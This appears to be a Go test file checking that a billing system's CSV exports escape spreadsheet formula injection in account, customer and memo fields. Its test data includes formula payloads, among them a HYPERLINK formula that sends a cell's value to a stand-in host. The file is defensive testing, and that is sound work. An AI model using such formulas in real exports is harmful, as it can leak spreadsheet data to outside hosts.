package report_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"

	"github.com/countinghouse/countinghouse/billing/ledger"
	"github.com/countinghouse/countinghouse/billing/report"
	"github.com/countinghouse/countinghouse/tenant"
)

// hostile are names as an attacker would choose them, and what a cell with them must hold.
var hostile = map[string]string{
	`=HYPERLINK("http://x.example?"&A1,"paid")`: `'=HYPERLINK("http://x.example?"&A1,"paid")`,
	"+1+1":          "'+1+1",
	"-2+3":          "'-2+3",
	"@SUM(A1:A9)":   "'@SUM(A1:A9)",
	"\t=1+1":        "'\t=1+1",
	"\n=1+1":        "'\n=1+1",
	"a,b;c":         "a,b;c",
	`"quoted", all`: `"quoted", all`,
	"two\nlines":    "two\nlines",
	"Õunapuu & 猫":   "Õunapuu & 猫",
	" =1":           " =1",
}

func rows(t *testing.T, file string) [][]string {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatalf("%v in\n%s", err, file)
	}
	return all
}

func TestWriteLedgerCSV(t *testing.T) {
	t.Parallel()
	b := openBooks(t)
	var want []string
	for name, cell := range hostile {
		b.do(t, func(ctx context.Context, tx *tenant.Tx) error {
			// Around the checks of the ledger, as a restored or imported organization could have it.
			_, err := tx.Exec(ctx, `UPDATE account SET name = left($2, 120) WHERE id = $1`, b.account["1010"], name)
			return err
		})
		l := b.line("1010", eur(-5))
		l.Party = b.customer(t, name)
		l.Memo = strings.Trim(strings.NewReplacer("\n", " ", "\t", " ").Replace(name), " ")
		b.post(t, march(2), l, b.line("5200", eur(5)))
		var file bytes.Buffer
		b.do(t, func(ctx context.Context, tx *tenant.Tx) error {
			return report.WriteLedgerCSV(ctx, tx, &file, report.Period{})
		})
		table := rows(t, file.String())
		want = append(want, cell)
		var parties []string
		for _, r := range table[1:] {
			if r[0] != "1010" {
				continue
			}
			if parties = append(parties, r[8]); r[1] != cell {
				t.Errorf("the account %q is written %q", name, r[1])
			}
			if strings.ContainsAny(r[7][:1], "=+-@") {
				t.Errorf("the memo is written %q", r[7])
			}
		}
		if !slices.Equal(parties, want) {
			t.Errorf("parties\n%q, want\n%q", parties, want)
		}
	}
}

func TestLedgerCSVHasOpeningsAndPlainAmounts(t *testing.T) {
	t.Parallel()
	b := openBooks(t)
	b.move(t, march(1), "1010", "5200", eur(1200_00)) // the bank is overdrawn: amounts begin with a minus
	b.move(t, march(3), "4000", "1010", amount("KWD", 1))
	var file bytes.Buffer
	b.do(t, func(ctx context.Context, tx *tenant.Tx) error {
		return report.WriteLedgerCSV(ctx, tx, &file, report.Period{From: march(2)})
	})
	want := `account,account_name,kind,currency,date,entry,description,memo,party,debit,credit,balance
1010,Current account,asset,EUR,2026-03-02,,Opening balance,,,,,-1200.00
1010,Current account,asset,KWD,2026-03-02,,Opening balance,,,,,0.000
1010,Current account,asset,KWD,2026-03-03,J-0002,Moved,,,0.001,,0.001
4000,Sales,income,KWD,2026-03-02,,Opening balance,,,,,0.000
4000,Sales,income,KWD,2026-03-03,J-0002,Moved,,,,0.001,-0.001
5200,Rent and power,expense,EUR,2026-03-02,,Opening balance,,,,,1200.00
`
	if file.String() != want {
		t.Errorf("the file is\n%s", file.String())
	}
}

func TestWriteTrialBalanceCSV(t *testing.T) {
	t.Parallel()
	for name, cell := range hostile {
		var file bytes.Buffer
		err := report.WriteTrialBalanceCSV(&file, report.TrialBalance{Rows: []report.TrialBalanceRow{{
			Code: "1010", Name: name, Kind: ledger.KindAsset, Currency: eur(0).Currency,
			Opening: eur(-5), Debit: eur(0), Credit: eur(123456_78), Closing: eur(-123456_83),
		}}})
		want := [][]string{
			{"account", "account_name", "kind", "currency", "opening", "debit", "credit", "closing"},
			{"1010", cell, "asset", "EUR", "-0.05", "0.00", "123456.78", "-123456.83"},
		}
		if got := rows(t, file.String()); err != nil || !slices.EqualFunc(got, want, slices.Equal) {
			t.Errorf("%q, %v", got, err)
		}
	}
}

func TestWriteCustomerBalancesCSV(t *testing.T) {
	t.Parallel()
	who := uuid.New()
	for name, cell := range hostile {
		var file bytes.Buffer
		err := report.WriteCustomerBalancesCSV(&file, []report.CustomerBalance{
			{who, name, eur(0).Currency, eur(-5), eur(0), 3},
			{uuid.Nil, "Without a customer", amount("JPY", 0).Currency, amount("JPY", 12), amount("JPY", 0), 0},
		})
		want := [][]string{
			{"customer_id", "customer", "currency", "owed", "overdue", "open_invoices"},
			{who.String(), cell, "EUR", "-0.05", "0.00", "3"},
			{"", "Without a customer", "JPY", "12", "0", "0"},
		}
		if got := rows(t, file.String()); err != nil || !slices.EqualFunc(got, want, slices.Equal) {
			t.Errorf("%q, %v", got, err)
		}
	}
}

// A reader who hangs up is told of, and ends the walk.
func TestCSVSaysThatItCouldNotBeWritten(t *testing.T) {
	t.Parallel()
	b := openBooks(t)
	b.move(t, march(1), "1010", "5200", eur(1))
	there, gone := io.Pipe()
	errHungUp := errors.New("hung up")
	if err := there.CloseWithError(errHungUp); err != nil {
		t.Fatal(err)
	}
	err := b.try(func(ctx context.Context, tx *tenant.Tx) error {
		return report.WriteLedgerCSV(ctx, tx, gone, report.Period{})
	})
	for name, err := range map[string]error{
		"the ledger":        err,
		"the trial balance": report.WriteTrialBalanceCSV(gone, report.TrialBalance{}),
		"the customers":     report.WriteCustomerBalancesCSV(gone, nil),
	} {
		if !errors.Is(err, errHungUp) {
			t.Errorf("%s: %v", name, err)
		}
	}
}
